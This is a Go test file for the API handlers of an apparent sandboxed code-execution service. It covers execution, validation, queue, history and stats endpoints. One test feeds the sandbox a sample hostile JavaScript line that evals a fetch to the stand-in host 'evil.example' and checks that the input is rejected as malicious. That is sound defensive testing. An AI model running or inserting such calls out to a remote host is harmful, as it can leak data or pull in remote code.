package api

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"polyglot-sandbox/internal/controller"
	"polyglot-sandbox/internal/engine"
	"polyglot-sandbox/internal/monitor"
	"polyglot-sandbox/internal/normalize"
	"polyglot-sandbox/internal/policy"
	"polyglot-sandbox/internal/threat"
)

// newTestHandlers wires real components (no database) for handler tests.
func newTestHandlers(t *testing.T) (*Handlers, func()) {
	t.Helper()

	policies := policy.NewStore(nil)
	engines, err := engine.NewRegistry(policies)
	if err != nil {
		t.Fatal(err)
	}
	ctrl := controller.New(policies, engines, controller.Options{})

	h := NewHandlers(
		ctrl,
		threat.NewAnalyzer(policies, threat.NewViolationLog(0)),
		engines,
		policies,
		normalize.NewAnalytics(),
		normalize.DefaultRetryPolicy(),
		nil,
		nil,
		monitor.NewMetrics(),
	)
	return h, func() {
		ctrl.Close()
		engines.Cleanup("")
	}
}

func postJSON(t *testing.T, handler http.HandlerFunc, path string, body any) *httptest.ResponseRecorder {
	t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest(http.MethodPost, path, bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	handler(rec, req)
	return rec
}

func decodeExecute(t *testing.T, rec *httptest.ResponseRecorder) ExecuteResponse {
	t.Helper()
	var resp ExecuteResponse
	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return resp
}

func TestHandleExecute_JSON(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	rec := postJSON(t, h.HandleExecute, "/execute", ExecuteRequest{
		Language: "json",
		Code:     `{"a": 1}`,
	})
	if rec.Code != http.StatusOK {
		t.Fatalf("got status %d, want 200", rec.Code)
	}

	resp := decodeExecute(t, rec)
	if !resp.Success {
		t.Fatalf("execution failed: %s", resp.Error)
	}
	if resp.ID == "" {
		t.Error("missing execution id")
	}
	if !strings.Contains(resp.Output, `"a": 1`) {
		t.Errorf("output = %q", resp.Output)
	}
}

func TestHandleExecute_ThreatGate(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	rec := postJSON(t, h.HandleExecute, "/execute", ExecuteRequest{
		Language: "javascript",
		Code:     `eval("fetch('https://evil.example/x')")`,
	})
	if rec.Code != http.StatusOK {
		t.Fatalf("got status %d, want 200 with rejection payload", rec.Code)
	}

	resp := decodeExecute(t, rec)
	if resp.Success {
		t.Fatal("malicious code executed")
	}
	if resp.Retryable {
		t.Error("malicious rejection must not be retryable")
	}
	if resp.ErrorClass != string(normalize.ClassMaliciousCode) {
		t.Errorf("error_class = %q", resp.ErrorClass)
	}
	if len(resp.Suggestions) == 0 {
		t.Error("rejection must carry suggestions")
	}
}

func TestHandleExecute_UnsupportedLanguage(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	rec := postJSON(t, h.HandleExecute, "/execute", ExecuteRequest{
		Language: "cobol",
		Code:     "DISPLAY 'HI'.",
	})
	resp := decodeExecute(t, rec)
	if resp.Success {
		t.Fatal("unsupported language executed")
	}
	if resp.ErrorClass != string(normalize.ClassUnsupported) {
		t.Errorf("error_class = %q", resp.ErrorClass)
	}
}

func TestHandleExecute_MissingCode(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	rec := postJSON(t, h.HandleExecute, "/execute", ExecuteRequest{Language: "json"})
	if rec.Code != http.StatusBadRequest {
		t.Errorf("got status %d, want 400", rec.Code)
	}
}

func TestHandleExecute_InvalidJSONBody(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	req := httptest.NewRequest(http.MethodPost, "/execute", strings.NewReader("{broken"))
	rec := httptest.NewRecorder()
	h.HandleExecute(rec, req)

	if rec.Code != http.StatusBadRequest {
		t.Errorf("got status %d, want 400", rec.Code)
	}
}

func TestHandleAnalyze(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	rec := postJSON(t, h.HandleAnalyze, "/analyze", AnalyzeRequest{
		Language: "javascript",
		Code:     `eval("x")`,
	})
	if rec.Code != http.StatusOK {
		t.Fatalf("got status %d, want 200", rec.Code)
	}

	var resp AnalyzeResponse
	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
		t.Fatal(err)
	}
	if !resp.IsMalicious {
		t.Error("eval not flagged malicious")
	}
	if len(resp.Violations) == 0 {
		t.Error("violations missing")
	}
}

func TestHandleValidate(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	tests := []struct {
		name string
		req  ValidateRequest
		want bool
	}{
		{"valid json", ValidateRequest{Language: "json", Code: `{"x":1}`}, true},
		{"invalid json", ValidateRequest{Language: "json", Code: `{x`}, false},
		{"valid lua", ValidateRequest{Language: "lua", Code: `print(1)`}, true},
		{"invalid lua", ValidateRequest{Language: "lua", Code: `print(=`}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := postJSON(t, h.HandleValidate, "/validate", tt.req)
			var resp ValidateResponse
			if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
				t.Fatal(err)
			}
			if resp.Valid != tt.want {
				t.Errorf("valid = %v, want %v", resp.Valid, tt.want)
			}
		})
	}
}

func TestHandleQueue(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	req := httptest.NewRequest(http.MethodGet, "/queue", nil)
	rec := httptest.NewRecorder()
	h.HandleQueue(rec, req)

	var resp QueueResponse
	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
		t.Fatal(err)
	}
	if resp.Active != 0 || resp.QueueLength != 0 {
		t.Errorf("idle controller reported active=%d queued=%d", resp.Active, resp.QueueLength)
	}
	if resp.Memory["heap_alloc_bytes"] == 0 {
		t.Error("memory sampling missing")
	}
}

func TestHandleHistory_TimeFilters(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	tests := []struct {
		name  string
		query string
		want  int
	}{
		{"bad since", "/executions/history?since=yesterday", http.StatusBadRequest},
		{"bad until", "/executions/history?until=eoy", http.StatusBadRequest},
		{"valid range no db", "/executions/history?since=2026-08-01T00:00:00Z&until=2026-08-30T00:00:00Z", http.StatusServiceUnavailable},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := httptest.NewRequest(http.MethodGet, tt.query, nil)
			rec := httptest.NewRecorder()
			h.HandleHistory(rec, req)
			if rec.Code != tt.want {
				t.Errorf("got status %d, want %d", rec.Code, tt.want)
			}
		})
	}
}

func TestHandleCancel_UnknownID(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	req := httptest.NewRequest(http.MethodDelete, "/executions/nope", nil)
	req.SetPathValue("id", "nope")
	rec := httptest.NewRecorder()
	h.HandleCancelExecution(rec, req)

	if rec.Code != http.StatusNotFound {
		t.Errorf("got status %d, want 404", rec.Code)
	}
}

func TestHandleStats_AfterExecutions(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	postJSON(t, h.HandleExecute, "/execute", ExecuteRequest{Language: "json", Code: `{"ok":true}`})
	postJSON(t, h.HandleExecute, "/execute", ExecuteRequest{Language: "javascript", Code: `eval("x")`})

	req := httptest.NewRequest(http.MethodGet, "/stats", nil)
	rec := httptest.NewRecorder()
	h.HandleStats(rec, req)

	var stats normalize.Stats
	if err := json.NewDecoder(rec.Body).Decode(&stats); err != nil {
		t.Fatal(err)
	}
	if stats.Total != 2 {
		t.Errorf("total = %d, want 2", stats.Total)
	}
	if stats.Failures != 1 {
		t.Errorf("failures = %d, want 1", stats.Failures)
	}
}

func TestHandleCleanupSession(t *testing.T) {
	h, cleanup := newTestHandlers(t)
	defer cleanup()

	req := httptest.NewRequest(http.MethodDelete, "/sessions/s1", nil)
	req.SetPathValue("id", "s1")
	rec := httptest.NewRecorder()
	h.HandleCleanupSession(rec, req)

	if rec.Code != http.StatusOK {
		t.Errorf("got status %d, want 200", rec.Code)
	}
}
